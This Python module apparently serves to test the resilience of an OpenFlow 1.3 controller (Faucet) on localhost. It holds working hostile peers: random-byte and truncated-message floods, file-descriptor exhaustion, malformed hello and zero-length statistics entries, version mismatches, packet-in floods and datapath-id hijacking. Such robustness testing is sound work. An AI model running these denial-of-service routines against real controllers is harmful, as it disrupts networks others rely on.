"""Switches and strangers that do harm, against a controller at the usual port. Each is a process of `hostile.py`."""

import os
import random
import resource
import socket
import struct
import time

ADDRESS = ("127.0.0.1", 6653)
HELLO, FEATURES_REPLY, PACKET_IN, FLOW_MOD, MULTIPART_REPLY = 0, 6, 10, 14, 19
FEATURES_REQUEST, MULTIPART_REQUEST, ECHO_REQUEST, BARRIER_REQUEST = 5, 18, 2, 20
PORT_DESC, FLOW = 13, 1
MORE = 1
# OpenFlow 1.3 is agreed on.
VERSION, OTHER_VERSION = 4, 5
# No instruction of OpenFlow has this type.
UNKNOWN_INSTRUCTION = 9
# A match of no fields, with its padding.
ANYTHING = struct.pack("!HH4x", 1, 4)
# An entry of flow statistics that says it has no bytes.
NO_BYTES = bytes(48) + ANYTHING
SEED = 20100
# Datapath ids: of the real switch, of one that Faucet's configuration has, and of one that it has not.
REAL, CONFIGURED, STRANGER = 1, 2, 99
TALKERS, HALVES, SILENT = 100, 200, 1100
MAX_NONSENSE_BYTES = 1500
RETURN_S = 0.5
# Of all flows that Faucet installs, and so of the packet-ins that it handles.
COOKIE = 1524372928
# The reason of packet-ins: a flow says so.
ACTION = 1
VLAN = 100
# The first two bytes of each host's address; the others are its number.
SOURCE = b"\x02\x01"
# IEEE's first EtherType for local experiments.
ETHERTYPE = 0x88B5
READ_BYTES = 1 << 16
READY_LIMIT_S = 30
BATCH = 512
# So that a controller has to hold many of them back.
SMALL_RECEIVE_BUFFER_BYTES = 4096


def message(kind, body=b"", length=None, xid=0, version=VERSION):
    return struct.pack("!BBHI", version, kind, 8 + len(body) if length is None else length, xid) + body


class Peer:
    """One connection that answers as much as the handshake needs."""

    def __init__(self, dpid, receive_buffer_bytes=None):
        self.dpid = dpid
        self.socket = socket.socket()
        if receive_buffer_bytes:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer_bytes)
        self.socket.connect(ADDRESS)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.received = b""
        self.socket.sendall(message(HELLO))

    def until(self, wanted):
        """Answers requests until one of this type was answered."""
        self.socket.settimeout(READY_LIMIT_S)
        while wanted not in [kind for kind, _ in self.receive()]:
            pass
        return self

    def receive(self):
        """Reads once, answers requests, and returns all messages that are whole: their types and bodies."""
        got = self.socket.recv(READ_BYTES)
        if not got:
            raise ConnectionError("the controller closed the connection")
        self.received += got
        messages, at = [], 0
        while len(self.received) - at >= 8:
            _, kind, length, xid = struct.unpack_from("!BBHI", self.received, at)
            if len(self.received) - at < length:
                break
            messages.append((kind, self.received[at + 8:at + length]))
            self.answer(kind, xid, messages[-1][1])
            at += length
        self.received = self.received[at:]
        return messages

    def answer(self, kind, xid, body):
        if kind == FEATURES_REQUEST:
            self.socket.sendall(message(FEATURES_REPLY, struct.pack("!QIBB2xII", self.dpid, 0, 254, 0, 0, 0), xid=xid))
        elif kind == MULTIPART_REQUEST:
            part = struct.unpack_from("!H", body)[0]
            ports = b"".join(struct.pack("!I4x6s2x16s8I", port, bytes([2, 0, 0, 0, 9, port]), b"p%d" % port, *[0] * 8) for port in (1, 2, 3, 4))
            reply = ports if part == PORT_DESC else b""
            if part == 0:
                reply = struct.pack("256s256s256s32s256s", b"none", b"none", b"none", b"0", b"none")
            self.socket.sendall(message(MULTIPART_REPLY, struct.pack("!HH4x", part, 0) + reply, xid=xid))
        elif kind in (ECHO_REQUEST, BARRIER_REQUEST):
            self.socket.sendall(message(kind + 1, body, xid=xid))


def packet_in(number):
    """A packet-in of one host of many, as Faucet's pipeline sends it: tagged, with its cookie."""
    frame = b"\xff" * 6 + SOURCE + struct.pack("!IHHH", number, 0x8100, VLAN, ETHERTYPE) + bytes(46)
    head = struct.pack("!IHBBQHHII", 0xFFFFFFFF, len(frame), ACTION, 1, COOKIE, 1, 12, 0x80000004, 1) + bytes(4)
    return message(PACKET_IN, head + bytes(2) + frame)


def packet_ins(first):
    return b"".join(packet_in(number) for number in range(first, first + BATCH))


def again(attack):
    """Runs an attack for ever, after each end of its connection."""
    while True:
        try:
            attack()
        except OSError:
            pass
        time.sleep(RETURN_S)


def crowd(number, first, more=None):
    """Connections that say `first`, and, each turn, what `more` returns. Those that are closed come back."""
    peers = []
    while True:
        while len(peers) < number:
            peer = socket.socket()
            peer.settimeout(1)
            try:
                peer.connect(ADDRESS)
                peer.sendall(first)
            except OSError:
                peer.close()
                break
            peer.setblocking(False)
            peers.append(peer)
        for peer in list(peers):
            try:
                if more:
                    peer.send(more())
                if not peer.recv(READ_BYTES):
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                peer.close()
                peers.remove(peer)
        time.sleep(RETURN_S)


def garbage():
    """100 connections send random bytes after their hello"""
    noise = random.Random(SEED)
    crowd(TALKERS, message(HELLO), lambda: noise.randbytes(noise.randint(1, MAX_NONSENSE_BYTES)))


def half():
    """200 connections begin a message of 64 KB, and never end it"""
    crowd(HALVES, message(HELLO) + message(MULTIPART_REPLY, bytes(500), length=65000))


def silent():
    """1,100 connections say nothing (a service may open 1,024 files)"""
    crowd(SILENT, b"")


def lengths():
    """100 connections send headers whose length is 0"""
    crowd(TALKERS, message(HELLO), lambda: message(PACKET_IN, bytes(16), length=0))


def hello():
    """one connection sends a hello with an element of no bytes"""
    def attack():
        with socket.create_connection(ADDRESS) as peer:
            peer.sendall(message(HELLO, struct.pack("!HHI", 1, 0, 0x12)))
            peer.recv(READ_BYTES)
            time.sleep(READY_LIMIT_S)
    again(attack)


def endless():
    """one switch sends flow statistics with an entry of no bytes"""
    def attack():
        peer = Peer(STRANGER).until(FEATURES_REQUEST)
        peer.socket.sendall(message(MULTIPART_REPLY, struct.pack("!HH4x", FLOW, 0) + NO_BYTES))
        peer.until(None)
    again(attack)


def instruction():
    """a switch of the configuration sends a flow_mod with an unknown instruction"""
    def attack():
        peer = Peer(CONFIGURED).until(MULTIPART_REQUEST)
        peer.socket.sendall(message(FLOW_MOD, bytes(40) + ANYTHING + struct.pack("!HH4x", UNKNOWN_INSTRUCTION, 8)))
        peer.until(None)
    again(attack)


def version():
    """one switch sends flow statistics of OpenFlow 1.4 after it has agreed on 1.3, with an entry of no bytes"""
    def attack():
        peer = Peer(STRANGER).until(FEATURES_REQUEST)
        peer.socket.sendall(message(MULTIPART_REPLY, struct.pack("!HH4x", FLOW, 0) + NO_BYTES, version=OTHER_VERSION))
        peer.until(None)
    again(attack)


def parts():
    """one switch sends statistics of flows, 64 KB a message, each with more to follow"""
    entry = struct.pack("!HBxIIHHHH4xQQQ", 56, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0) + ANYTHING

    def attack():
        peer = Peer(STRANGER).until(FEATURES_REQUEST)
        while True:
            peer.socket.sendall(message(MULTIPART_REPLY, struct.pack("!HH4x", FLOW, MORE) + entry * 1100))
    again(attack)


def stranger():
    """a switch that is not in the configuration floods with packet-ins"""
    flood(STRANGER)


def member():
    """a switch of the configuration floods with packet-ins, each of a new host"""
    flood(CONFIGURED)


def flood(dpid, receive_buffer_bytes=None):
    def attack():
        peer = Peer(dpid, receive_buffer_bytes).until(MULTIPART_REQUEST)
        number = 0
        while True:
            peer.socket.sendall(packet_ins(number))
            number += BATCH
    again(attack)


def slow():
    """a switch of the configuration sends packet-ins and reads nothing"""
    flood(CONFIGURED, SMALL_RECEIVE_BUFFER_BYTES)


def second():
    """a second connection claims the datapath id of the real switch"""
    def attack():
        peer = Peer(REAL).until(MULTIPART_REQUEST)
        peer.until(None)
    again(attack)


ATTACKS = {attack.__name__: attack for attack in (
    silent, garbage, lengths, half, hello, endless, instruction, version, parts, second, stranger, member, slow)}


def start(name):
    """Runs an attack until this process is ended. It is to use this machine's idle time only."""
    os.nice(10)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    ATTACKS[name]()
